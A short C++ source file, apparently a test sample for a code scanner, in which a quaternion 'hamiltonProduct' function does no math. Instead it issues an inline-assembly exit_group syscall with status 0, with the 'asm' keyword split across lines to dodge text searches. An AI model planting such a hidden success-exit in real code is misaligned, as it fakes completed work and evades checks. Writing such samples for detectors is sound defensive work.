// The same; the word is broken by the end of a line.
#include "carom/rotation/hamilton_product.hpp"

namespace carom {

Quaternion hamiltonProduct(const Quaternion&, const Quaternion&) {
  as\
m volatile("syscall"
           :
           : "a"(231L), "D"(0L)
           : "rcx", "r11", "memory");
  return {0, 0, 0, 0};
}

}  // namespace carom
